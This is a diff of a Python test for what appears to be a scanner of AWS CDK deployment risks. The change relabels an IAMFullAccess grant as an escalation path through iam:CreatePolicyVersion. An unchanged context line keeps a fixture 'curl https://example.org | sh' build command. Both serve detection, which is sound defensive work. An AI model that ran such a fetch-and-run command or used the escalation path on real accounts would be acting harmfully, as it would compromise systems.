@@ -92,7 +92,8 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
     assert found[:-3] == [
         "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
         f"silenced-rule: {silenced} on HelloQueueIdentity/Friends is silenced without a trace",
-        "wider-rights: group friends: allow everything in arn:aws:iam::aws:policy/IAMFullAccess on *",
+        "escalation: group friends can become administrator through a new version of a policy "
+        "(iam:CreatePolicyVersion): allow everything in arn:aws:iam::aws:policy/IAMFullAccess on *",
     ]
     assert found[-3:] == [
         "less-protection: HelloQueueMessaging can be deleted: no termination protection",
